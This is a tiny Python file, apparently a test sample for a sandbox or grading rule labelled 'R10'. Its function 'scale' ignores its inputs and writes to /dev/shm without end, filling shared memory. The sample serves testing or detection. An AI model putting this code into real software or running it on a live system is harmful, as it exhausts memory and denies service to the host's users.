"""Verdict: error. R10: fills /dev/shm."""


def scale(x, factor):
    with open("/dev/shm/fat", "wb") as stream:
        while True:
            stream.write(b"x" * 2**16)
            stream.flush()
